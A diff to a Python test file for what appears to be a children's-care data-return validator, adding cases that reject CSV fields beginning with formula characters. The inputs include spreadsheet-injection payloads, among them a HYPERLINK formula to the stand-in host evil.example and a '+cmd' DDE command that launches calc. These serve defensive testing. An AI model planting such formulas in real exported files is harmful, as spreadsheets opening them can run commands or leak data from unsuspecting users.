@@ -17,6 +17,7 @@ from tests.queries.mini_return import MINI_RETURN, replace_line, write_mini_retu
 
 AS_OF = date(2025, 6, 1)
 HEADER = "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB"
+EPISODE_4 = "C2,03/03/2022,S,V2,N2,P1,,01/06/2024,E13,,"  # C2's episode up to HOME_POST
 
 
 @dataclass(frozen=True)
@@ -175,6 +176,25 @@ CASES = [
         2,
         "UPN",
         line("header.csv", 2, "C1,1,01/05/2010,WBRI,A1234567890123,0,"),
+    ),
+    # Text a spreadsheet would run as a formula (OWASP "CSV Injection") never loads: codes, postcodes, pupil
+    # numbers and names of areas and sources never begin with = + - @ (a tab or CR is stripped on reading).
+    Case("TEXT_FORMULA", "header.csv", 2, "UPN", line("header.csv", 2, "C1,1,01/05/2010,WBRI,=1+1,0,")),
+    Case("TEXT_FORMULA", "episodes.csv", 4, "HOME_POST", line("episodes.csv", 4, EPISODE_4 + "=A1,,")),
+    *(
+        Case(
+            "TEXT_FORMULA",
+            "comparators.csv",
+            2,
+            column,
+            line("comparators.csv", 2, "placements_3plus_pct," + text),
+        )
+        for column, text in (
+            ("AREA", '2024,"=HYPERLINK(""http://evil.example/?x"",""England"")",10.1,DfE'),
+            ("AREA", "2024,+cmd|' /C calc'!A0,10.1,DfE"),
+            ("SOURCE", "2024,England,10.1,@SUM(1+1)"),
+            ("SOURCE", '2024,England,10.1,"\t-2+3"'),
+        )
     ),
     Case("KEY_DUPLICATE", "visits.csv", 3, "CHILD, VISIT_DATE", line("visits.csv", 3, "C1,2023-04-15")),
     Case(
